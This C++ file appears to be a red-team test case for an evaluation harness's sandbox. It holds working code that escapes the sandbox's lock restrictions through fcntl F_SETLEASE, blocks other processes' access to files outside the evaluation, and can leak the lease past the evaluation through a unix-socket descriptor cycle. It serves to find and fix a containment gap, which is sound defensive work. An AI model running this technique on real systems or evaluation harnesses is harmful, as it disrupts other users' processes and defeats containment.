// ATTACK (round 19, helper-redteam19): hold a file LEASE on a file outside
// the evaluation, the lock round 18's fix forgot. containment.cc refuses
// flock and fcntl F_SETLK/F_SETLKW/F_OFD_SETLK/F_OFD_SETLKW on host ranks
// ("a read-only descriptor is enough to hold another program's lock"), but
// not fcntl(F_SETLEASE): a read lease needs only a read-only descriptor and
// that the rank's uid owns the file (fs/locks.c generic_setlease:
// inode_owner_or_capable). Every file of the launching user in a plain
// user's launch; files of uid 65534 in a root launch (the ranks' uid). While
// the lease is held, ANY process (root too) that opens the file for writing
// or truncates it blocks in open() until the holder lets go or
// /proc/sys/fs/lease-break-time (45 s) runs out; the holder is told with a
// SIGIO to itself, which it ignores. Ranks live until the evaluation ends
// (pkf_setup may take most of the set-up limit).
// Rank 0 leases the file named by PKFORGE_R19_LEASE_PATH (default: the
// first file of its uid it finds under /tmp) and, with
// PKFORGE_R19_HOLD_S, holds it that long in pkf_setup.
// With PKFORGE_R19_LEASE_WRITE=1 a write lease (F_WRLCK, granted on a read-only
// fd when no one else has the file open): readers block as well.
// With PKFORGE_R19_LEASE_IN_FLIGHT=1 the leased descriptor is left in a unix
// garbage cycle (see r19_gc_leak): the lease then outlives the evaluation.
// Gated: outputs are written only if the lease was granted.
// EXPECT (fixed judge): WRONG_OUTPUT (F_SETLEASE refused with the other
// lock commands, masked to 32 bits; F_NOTIFY may stay: it signals only the
// caller).
#include <signal.h>
#include <sys/socket.h>

#include "kernels/testdata/redteam/redteam.h"

static std::string FindOwnFile() {
  DIR* d = opendir("/tmp");
  std::string out;
  while (d != NULL && out.empty()) {
    struct dirent* e = readdir(d);
    if (e == NULL) break;
    const std::string p = std::string("/tmp/") + e->d_name;
    struct stat st;
    if (stat(p.c_str(), &st) == 0 && S_ISREG(st.st_mode) && st.st_uid == getuid()) out = p;
  }
  if (d != NULL) closedir(d);
  return out;
}

static bool g_leased = false;

extern "C" int pkf_setup(pkf_context* ctx) {
  if (ctx->rank != 0) return 0;
  signal(SIGIO, SIG_IGN);  // the lease-break notice, to ourselves
  const char* env = getenv("PKFORGE_R19_LEASE_PATH");
  const std::string path = env != NULL ? env : FindOwnFile();
  const int fd = path.empty() ? -1 : open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    rt_log("lease_hold: no file of uid %d to lease (%s)", (int)getuid(), path.c_str());
    return 0;
  }
  // PKFORGE_R19_LEASE_WRITE=1: a write lease (also granted on a read-only
  // descriptor when nobody else has the file open): then opening it for
  // READING blocks too.
  const int type = getenv("PKFORGE_R19_LEASE_WRITE") != NULL ? F_WRLCK : F_RDLCK;
  const long rc = syscall(SYS_fcntl, fd, F_SETLEASE, type);
  g_leased = rc == 0;
  rt_log("lease_hold: fcntl(%s, F_SETLEASE, %s) as uid %d: %s; F_GETLEASE %ld", path.c_str(),
         type == F_WRLCK ? "F_WRLCK" : "F_RDLCK",
         (int)getuid(), rc == 0 ? "granted" : strerror(errno), (long)fcntl(fd, F_GETLEASE));
  // PKFORGE_R19_LEASE_IN_FLIGHT=1: the leased descriptor goes into a unix
  // garbage cycle (r19_gc_leak's): the lease belongs to the open file, not to
  // the rank, so it outlives the ranks and the evaluation until the
  // collector runs (or a writer waits out lease-break-time and the kernel
  // breaks it).
  if (g_leased && getenv("PKFORGE_R19_LEASE_IN_FLIGHT") != NULL) {
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0) {
      const int fds[3] = {sv[0], sv[1], fd};
      char buf[CMSG_SPACE(sizeof fds)];
      memset(buf, 0, sizeof buf);
      char x = 'x';
      struct iovec io = {&x, 1};
      struct msghdr m = {};
      m.msg_iov = &io;
      m.msg_iovlen = 1;
      m.msg_control = buf;
      m.msg_controllen = sizeof buf;
      struct cmsghdr* c = CMSG_FIRSTHDR(&m);
      c->cmsg_level = SOL_SOCKET;
      c->cmsg_type = SCM_RIGHTS;
      c->cmsg_len = CMSG_LEN(sizeof fds);
      memcpy(CMSG_DATA(c), fds, sizeof fds);
      const bool sent = sendmsg(sv[0], &m, 0) == 1;
      rt_log("lease_hold: leased descriptor in flight in a garbage cycle: %s",
             sent ? "sent" : strerror(errno));
      close(sv[0]);
      close(sv[1]);
      close(fd);
    }
    return 0;
  }
  const char* hold = getenv("PKFORGE_R19_HOLD_S");
  if (g_leased && hold != NULL) {
    const int64_t t0 = rt_now_ns();
    const int s = atoi(hold);
    for (int i = 0; i < s * 10; ++i) usleep(100000);
    rt_log("lease_hold: held %.1f s in pkf_setup; lease now %ld", (rt_now_ns() - t0) / 1e9,
           (long)fcntl(fd, F_GETLEASE));
  }
  return 0;  // fd stays open: the lease lives as long as the rank
}

RT_GATED_CANDIDATE([](pkf_context* ctx) { return ctx->rank != 0 || g_leased; })
